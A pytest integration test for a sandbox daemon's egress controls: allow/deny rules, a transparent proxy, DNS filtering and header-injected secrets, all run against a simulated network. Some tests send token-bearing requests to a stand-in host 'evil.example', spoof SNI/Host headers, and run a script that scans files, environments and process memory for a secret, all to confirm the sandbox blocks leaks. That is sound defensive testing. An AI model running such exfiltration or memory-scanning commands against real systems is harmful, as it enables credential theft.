"""Egress policy and credentials (issue 16): allow/deny by domain and CIDR, the transparent egress
proxy (Host / SNI), the per-sandbox DNS forwarder, and secrets injected into request headers.

The "internet" is a network namespace this test creates (TEST-NET-3, 203.0.113.0/24), routed from
the host: dnsmasq answers for api.openai.com (.10), evil.example (.20) and other.test (.30); one
Python server in it answers HTTP on 80, HTTPS on 443 (a test CA, certificates for all three names)
and a raw TCP port 7000 on every address, and logs what reached which address with which headers.
The daemon's egress services ask that dnsmasq ([egress] dns) and trust that CA ([egress] upstream_ca)."""
import json
import os
import shutil
import subprocess
import tempfile
import textwrap
import time
import uuid

import pytest

from warren_harness import Daemon, destroy_sandbox, exec_, shared_images

IMAGE = "debian:bookworm"
NET = "203.0.113"
API, EVIL, OTHER, DNS = NET + ".10", NET + ".20", NET + ".30", NET + ".53"
SECRET = "sk-test-" + uuid.uuid4().hex
SERVER = textwrap.dedent(r'''
    import http.server, json, socket, socketserver, ssl, sys, threading
    log = open(sys.argv[1], "a", buffering=1)
    class H(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            local = self.connection.getsockname()[0]
            seen = {"local": local, "path": self.path, "headers": dict(self.headers.items()),
                    "tls": isinstance(self.connection, ssl.SSLSocket)}
            log.write(json.dumps(seen) + "\n")
            body = json.dumps(seen).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        def log_message(self, *a):
            pass
    class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
        daemon_threads = True
        allow_reuse_address = True
    plain = S(("0.0.0.0", 80), H)
    tls = S(("0.0.0.0", 443), H)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(sys.argv[2], sys.argv[3])
    tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
    class R(socketserver.BaseRequestHandler):
        def handle(self):
            local = self.request.getsockname()[0]
            log.write(json.dumps({"local": local, "raw": True}) + "\n")
            self.request.sendall(("raw-" + local + "\n").encode())
    class RS(socketserver.ThreadingMixIn, socketserver.TCPServer):
        daemon_threads = True
        allow_reuse_address = True
    raw = RS(("0.0.0.0", 7000), R)
    for s in (plain, tls, raw):
        threading.Thread(target=s.serve_forever, daemon=True).start()
    print("ready", flush=True)
    threading.Event().wait()
''')


def sh(*cmd, check=True):
    return subprocess.run(cmd, check=check, capture_output=True, text=True)


def make_ca(d):
    sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2",
       "-subj", "/CN=egress test CA", "-keyout", d + "/ca.key", "-out", d + "/ca.pem")
    with open(d + "/san.ext", "w") as f:
        f.write("subjectAltName=DNS:api.openai.com,DNS:evil.example,DNS:other.test\n")
    sh("openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj", "/CN=test",
       "-keyout", d + "/srv.key", "-out", d + "/srv.csr")
    sh("openssl", "x509", "-req", "-in", d + "/srv.csr", "-CA", d + "/ca.pem", "-CAkey", d + "/ca.key",
       "-CAcreateserial", "-days", "2", "-extfile", d + "/san.ext", "-out", d + "/srv.pem")


class World:
    """The test's internet: a netns with dnsmasq and the logging server."""

    def __init__(self):
        self.dir = tempfile.mkdtemp(prefix="warren-egress-")
        tag = uuid.uuid4().hex[:6]
        self.ns, self.host_if, self.ns_if = "wt-eg-" + tag, "wtg" + tag, "wth" + tag
        self.procs = []
        make_ca(self.dir)
        sh("ip", "netns", "add", self.ns)
        sh("ip", "link", "add", self.host_if, "type", "veth", "peer", "name", self.ns_if)
        sh("ip", "link", "set", self.ns_if, "netns", self.ns)
        sh("ip", "addr", "add", NET + ".1/24", "dev", self.host_if)
        sh("ip", "link", "set", self.host_if, "up")
        for a in (API, EVIL, OTHER, DNS):
            self.nsexec("ip", "addr", "add", a + "/24", "dev", self.ns_if)
        self.nsexec("ip", "link", "set", self.ns_if, "up")
        self.nsexec("ip", "link", "set", "lo", "up")
        self.nsexec("ip", "route", "add", "default", "via", NET + ".1")
        self.log = self.dir + "/seen.jsonl"
        open(self.log, "w").close()
        with open(self.dir + "/server.py", "w") as f:
            f.write(SERVER)
        self.spawn("python3", self.dir + "/server.py", self.log, self.dir + "/srv.pem", self.dir + "/srv.key")
        self.spawn(shutil.which("dnsmasq") or "/usr/sbin/dnsmasq", "--keep-in-foreground", "--no-resolv",
                   "--no-hosts", "--bind-interfaces", "--listen-address=" + DNS, "--port=53", "--pid-file=",
                   "--address=/api.openai.com/" + API, "--address=/evil.example/" + EVIL,
                   "--address=/other.test/" + OTHER, "--local-ttl=30", "--user=root")
        deadline = time.time() + 15
        while True:  # the host reaches both the DNS server and the web server
            r = sh("curl", "-s", "-m", "2", "--cacert", self.dir + "/ca.pem", "--resolve",
                   "api.openai.com:443:" + API, "https://api.openai.com/ready", check=False)
            d = sh("python3", "-c", DIG, DNS, "api.openai.com", check=False)
            if '"local": "%s"' % API in r.stdout and API in d.stdout:
                break
            assert time.time() < deadline, "the test's internet never came up: %s %s %s" % (r.stderr, d.stdout, d.stderr)
            time.sleep(0.2)
        self.clear()

    def nsexec(self, *cmd):
        return sh("ip", "netns", "exec", self.ns, *cmd)

    def spawn(self, *cmd):
        self.procs.append(subprocess.Popen(["ip", "netns", "exec", self.ns, *cmd], stdout=subprocess.DEVNULL,
                                           stderr=open(self.dir + "/%d.log" % len(self.procs), "w")))

    def clear(self):
        open(self.log, "w").close()

    def seen(self):
        with open(self.log) as f:
            return [json.loads(line) for line in f if line.strip()]

    def close(self):
        for p in self.procs:
            p.terminate()
            p.wait(10)
        sh("ip", "link", "del", self.host_if, check=False)
        sh("ip", "netns", "del", self.ns, check=False)
        shutil.rmtree(self.dir, ignore_errors=True)


# A DNS query by hand (no dig in the images): prints the A records, or "rcode=N".
DIG = textwrap.dedent(r'''
    import random, socket, struct, sys
    server, name = sys.argv[1], sys.argv[2]
    qid = random.randrange(65536)
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, (server, 53))
    r = s.recv(4096)
    rcode = r[3] & 15
    if rcode:
        print("rcode=%d" % rcode)
        sys.exit(0)
    an = struct.unpack(">H", r[6:8])[0]
    i = 12
    while r[i]:
        i += r[i] + 1
    i += 5
    for _ in range(an):
        i += 2 if r[i] & 0xC0 == 0xC0 else len(r[i:].split(b"\0")[0]) + 1
        t, _, _, l = struct.unpack(">HHIH", r[i:i + 10])
        i += 10
        if t == 1:
            print(socket.inet_ntoa(r[i:i + 4]))
        i += l
''')


@pytest.fixture(scope="module")
def world():
    w = World()
    yield w
    w.close()


@pytest.fixture(scope="module")
def d(world):
    cfg = os.path.join(world.dir, "warren.ini")
    with open(cfg, "w") as f:
        f.write('[egress]\ndns=["%s"]\nupstream_ca="%s"\n' % (DNS, world.dir + "/ca.pem"))
    dm = Daemon(images=shared_images((IMAGE,)), extra_args=["--default-image", IMAGE, "--config", cfg]).start()
    yield dm
    if dm.proc.poll() is not None:
        print("the daemon died (%s):\n%s" % (dm.proc.returncode, dm.log()[-6000:]))
        dm.start()
    for sb in dm.request("GET", "/v1/sandboxes")[1].get("sandboxes", []):
        destroy_sandbox(dm, sb["id"])
    dm.close()


def create(d, **fields):
    status, body, _ = d.request("POST", "/v1/sandboxes", dict(fields, sandbox_timeout=-1))
    assert status == 201, body
    with open(os.path.join(d.data_dir, "dig.py"), "w") as f:
        f.write(DIG)
    return body


def run(d, sid, cmd, timeout=30):
    r = exec_(d, sid, cmd, timeout=timeout, expect=None)
    assert "exit_code" in r, r
    return r


def curl(d, sid, url, *args):
    """curl in the sandbox: (exit code, body)."""
    extra = " ".join('"%s"' % a for a in args)
    r = run(d, sid, "curl -sS -m 8 %s '%s'" % (extra, url))
    return r["exit_code"], r["stdout"] + r["stderr"]


def dig(d, sid, server, name):
    return run(d, sid, "python3 -c '%s' %s %s" % (DIG.replace("'", "'\"'\"'"), server, name))["stdout"]


# A raw TCP connection to port 7000 of an address (the server answers raw-<its address>).
RAW = "python3 -c \"import socket; s = socket.create_connection(('%s', 7000), 5); print(s.recv(100).decode().strip())\""


# Searches the whole sandbox for a secret given in two halves: every file (but /proc, /sys),
# every process's environment and memory (but its own: it holds the joined needle).
FIND_SECRET = textwrap.dedent(r'''
    import os, sys
    needle = (sys.argv[1] + sys.argv[2]).encode()
    me = str(os.getpid())
    for root, dirs, files in os.walk("/"):
        if root == "/":
            dirs[:] = [x for x in dirs if x not in ("proc", "sys", "dev")]
        for f in files:
            p = os.path.join(root, f)
            try:
                if os.path.isfile(p) and not os.path.islink(p) and needle in open(p, "rb").read():
                    print("in file", p)
            except OSError:
                pass
    for pid in [x for x in os.listdir("/proc") if x.isdigit() and x != me]:
        try:
            if needle in open("/proc/%s/environ" % pid, "rb").read():
                print("in the env of", pid)
            maps = open("/proc/%s/maps" % pid).read().splitlines()
            mem = open("/proc/%s/mem" % pid, "rb", 0)
        except OSError:
            continue
        for line in maps:
            a, b = (int(x, 16) for x in line.split()[0].split("-"))
            try:
                mem.seek(a)
                if needle in mem.read(b - a):
                    print("in the memory of", pid, line)
            except (OSError, ValueError, OverflowError):
                continue
    print("searched")
''')


def hits(world, addr):
    return [s for s in world.seen() if s["local"] == addr]


def test_bad_rules_and_credentials_are_refused_with_400(d):
    for body in ({"allow": ["10.0.0.0/33"]}, {"deny": ["exa mple.com"]}, {"allow": ["*.com"]},
                 {"allow": ["1.2.3.4/8x"]}, {"credentials": {"SOME_UNKNOWN_NAME": "x"}},
                 {"credentials": {"T": {"value": "x"}}}, {"credentials": {"T": {"value": "x", "hosts": ["a b"]}}},
                 {"credentials": {"T": {"value": "a\nb", "hosts": ["api.example.com"]}}},
                 {"allow": ["x"] * 257}):
        status, err, _ = d.request("POST", "/v1/sandboxes", body)
        assert status == 400 and err["error"]["code"] == "bad_request", (body, status, err)


def test_locked_down_agent_reaches_one_api_with_a_secret_it_cannot_read(d, world):
    sb = create(d, network_profile="locked-down", allow=["api.openai.com"],
                credentials={"OPENAI_API_KEY": SECRET})
    sid = sb["id"]
    try:
        assert "OPENAI_API_KEY" in sb["credentials"] and SECRET not in json.dumps(sb)
        env = run(d, sid, "echo $OPENAI_API_KEY")["stdout"].strip()
        assert env.startswith("warren-placeholder-") and SECRET not in env

        # HTTPS to the bound host: curl verifies the node CA's certificate, the server sees the secret
        world.clear()
        rc, out = curl(d, sid, "https://api.openai.com/v1/models", "-H", "Authorization: Bearer $OPENAI_API_KEY")
        assert rc == 0, out
        got = json.loads(out)
        assert got["local"] == API and got["tls"] and got["headers"]["Authorization"] == "Bearer " + SECRET
        # the placeholder outside headers stays a placeholder
        rc, out = run(d, sid, "curl -sS -m 8 'https://api.openai.com/q?k='$OPENAI_API_KEY")["exit_code"], None
        assert rc == 0 and SECRET not in json.dumps(world.seen()[-1]["path"])
        # plain HTTP to it too
        rc, out = curl(d, sid, "http://api.openai.com/plain", "-H", "X-Api-Key: $OPENAI_API_KEY")
        assert rc == 0 and json.loads(out)["headers"]["X-Api-Key"] == SECRET, out

        # nothing else: not evil.example by name (DNS refused, proxy refuses), address or raw port
        assert "rcode=5" in dig(d, sid, "8.8.8.8", "evil.example")  # any resolver: it is ours
        world.clear()
        for url in ("https://evil.example/", "http://evil.example/", "http://" + EVIL + "/"):
            rc, out = curl(d, sid, url, "--resolve", "evil.example:443:" + EVIL, "--resolve", "evil.example:80:" + EVIL)
            assert rc != 0 or "warren egress" in out, (url, out)
        rc, out = run(d, sid, RAW % EVIL, timeout=15)["exit_code"], None
        assert rc != 0
        assert hits(world, EVIL) == []

        # the allowed name's addresses open other ports once resolved through the forwarder
        assert API in dig(d, sid, "1.1.1.1", "api.openai.com")
        r = run(d, sid, RAW % API, timeout=15)
        assert r["stdout"].strip() == "raw-" + API, r

        # a lying SNI / Host reaches the real api.openai.com, never the address it was sent to
        world.clear()
        rc, out = curl(d, sid, "https://api.openai.com/sni", "--resolve", "api.openai.com:443:" + EVIL)
        assert rc == 0 and json.loads(out)["local"] == API, out
        rc, out = curl(d, sid, "http://%s/host" % EVIL, "-H", "Host: api.openai.com")
        assert rc == 0 and json.loads(out)["local"] == API, out
        assert hits(world, EVIL) == []

        # refusals are visible
        status, got, _ = d.request("GET", "/v1/sandboxes/" + sid)
        assert status == 200 and got["network"]["refused_total"] > 0, got
        dests = " ".join(r["dest"] for r in got["network"]["refused"])
        assert "evil.example" in dests and EVIL in dests, got["network"]
        status, metrics, _ = d.request("GET", "/metrics", raw=True)
        assert 'warren_sandbox_egress_refused_total{sandbox="%s"}' % sid in metrics.decode()

        # the secret is nowhere in the sandbox: files, env, process memory; nor in API answers
        half = len(SECRET) // 2  # the searcher gets it in halves: the command text never holds it
        r = run(d, sid, "python3 - '%s' '%s' <<'EOF'\n%sEOF\n" % (SECRET[:half], SECRET[half:], FIND_SECRET), timeout=180)
        assert r["exit_code"] == 0 and r["stdout"].strip() == "searched", r
        status, listed, _ = d.request("GET", "/v1/sandboxes")
        assert SECRET not in json.dumps(listed)
        assert SECRET not in d.log()
        for root, _, files in os.walk(os.path.join(d.data_dir, "meta")):
            for name in files:
                with open(os.path.join(root, name), "rb") as f:
                    assert SECRET.encode() not in f.read(), name
    finally:
        destroy_sandbox(d, sid)


def test_a_placeholder_sent_elsewhere_stays_a_placeholder(d, world):
    sb = create(d, network_profile="internet",
                credentials={"MY_TOKEN": {"value": SECRET, "hosts": ["api.openai.com"]}})
    try:
        world.clear()
        rc, out = curl(d, sb["id"], "https://other.test/x", "-k", "-H", "Authorization: Bearer $MY_TOKEN")
        assert rc == 0, out
        got = json.loads(out)
        assert got["local"] == OTHER and got["headers"]["Authorization"].startswith("Bearer warren-placeholder-")
        rc, out = curl(d, sb["id"], "http://evil.example/x", "-H", "Authorization: Basic $(printf u:$MY_TOKEN | base64 -w0)")
        assert rc == 0 and SECRET not in out
        rc, out = curl(d, sb["id"], "https://api.openai.com/x", "-u", "git:$MY_TOKEN")
        import base64
        assert rc == 0 and json.loads(out)["headers"]["Authorization"] == \
            "Basic " + base64.b64encode(("git:" + SECRET).encode()).decode(), out
        assert all(SECRET not in json.dumps(s) for s in world.seen() if s["local"] != API)
    finally:
        destroy_sandbox(d, sb["id"])


def test_deny_beats_allow_and_a_patch_takes_effect_within_a_second(d, world):
    sb = create(d, network_profile="internet", allow=[NET + ".0/24"], deny=[EVIL + "/32", "other.test"])
    sid = sb["id"]
    try:
        raw = RAW
        assert run(d, sid, raw % API, timeout=15)["stdout"].strip() == "raw-" + API
        assert run(d, sid, raw % EVIL, timeout=15)["exit_code"] != 0
        assert run(d, sid, raw % "192.0.2.1", timeout=15)["exit_code"] != 0  # not in the allow list
        rc, out = curl(d, sid, "https://other.test/", "-k", "--resolve", "other.test:443:" + OTHER)
        assert rc != 0, out  # denied by name although its address is allowed
        rc, out = curl(d, sid, "https://api.openai.com/", "-k")
        assert rc == 0 and json.loads(out)["local"] == API

        status, got, _ = d.request("PATCH", "/v1/sandboxes/%s/network" % sid, {"deny": ["api.openai.com", API]})
        assert status == 200 and got["deny"] == ["api.openai.com", API], got
        t0 = time.time()
        assert run(d, sid, raw % EVIL, timeout=15)["stdout"].strip() == "raw-" + EVIL
        assert run(d, sid, raw % API, timeout=15)["exit_code"] != 0
        rc, out = curl(d, sid, "https://api.openai.com/", "-k")
        assert rc != 0
        assert time.time() - t0 < 20
        status, err, _ = d.request("PATCH", "/v1/sandboxes/%s/network" % sid, {"allow": ["nope nope"]})
        assert status == 400, err
        status, err, _ = d.request("PATCH", "/v1/sandboxes/ffffffffffffffff/network", {"allow": []})
        assert status == 404, err
    finally:
        destroy_sandbox(d, sid)


def test_rules_survive_a_daemon_restart(d, world):
    sb = create(d, network_profile="internet", deny=[EVIL + "/32"])
    sid = sb["id"]
    raw = RAW
    try:
        assert run(d, sid, raw % EVIL, timeout=15)["exit_code"] != 0
        d.kill9()
        d.start()
        assert run(d, sid, raw % EVIL, timeout=15)["exit_code"] != 0
        assert run(d, sid, raw % OTHER, timeout=15)["stdout"].strip() == "raw-" + OTHER
        # a new sandbox rebuilds the table: the survivor's own chain is rebuilt with it
        other = create(d, network_profile="internet")
        destroy_sandbox(d, other["id"])
        assert run(d, sid, raw % EVIL, timeout=15)["exit_code"] != 0
    finally:
        destroy_sandbox(d, sid)


def test_e2b_network_lists_become_the_same_policy(d, world):
    """E2B's network.allowOut / denyOut (allowOut wins; denyOut ALL_TRAFFIC makes an allow list)."""
    e2b = {"X-API-KEY": d.admin_key}
    body = {"templateID": IMAGE, "timeout": 60,
            "network": {"denyOut": ["0.0.0.0/0"], "allowOut": ["api.openai.com"]}}
    status, sb, _ = d.request("POST", "/v2/sandboxes", body, key=None, headers=e2b)
    assert status == 201, sb
    sid = sb["sandboxID"]
    try:
        status, got, _ = d.request("GET", "/v1/sandboxes/" + sid)
        assert got["allow"] == ["api.openai.com"] and "deny" not in got, got
        rc, out = curl(d, sid, "https://api.openai.com/", "-k")
        assert rc == 0 and json.loads(out)["local"] == API, out
        assert run(d, sid, RAW % EVIL, timeout=15)["exit_code"] != 0
        status, err, _ = d.request("POST", "/v2/sandboxes", {"templateID": IMAGE, "network": {"denyOut": ["300.1.1.1"]}},
                                   key=None, headers=e2b)
        assert status == 400, err
    finally:
        destroy_sandbox(d, sid)


def test_a_fork_keeps_its_parents_policy_and_credentials(d, world):
    sb = create(d, network_profile="locked-down", allow=["api.openai.com"],
                credentials={"OPENAI_API_KEY": SECRET})
    children = []
    try:
        status, got, _ = d.request("POST", "/v1/sandboxes/%s/fork" % sb["id"], {"count": 1})
        assert status in (200, 201), got
        children = [c["id"] for c in (got["sandboxes"] if isinstance(got, dict) else got)]
        child = children[0]
        status, view, _ = d.request("GET", "/v1/sandboxes/" + child)
        assert view["allow"] == ["api.openai.com"] and "OPENAI_API_KEY" in view["credentials"], view
        assert run(d, child, RAW % EVIL, timeout=15)["exit_code"] != 0
        world.clear()
        rc, out = curl(d, child, "https://api.openai.com/child", "-H", "Authorization: Bearer $OPENAI_API_KEY")
        assert rc == 0 and json.loads(out)["headers"]["Authorization"] == "Bearer " + SECRET, out
    finally:
        for c in children:
            destroy_sandbox(d, c)
        destroy_sandbox(d, sb["id"])
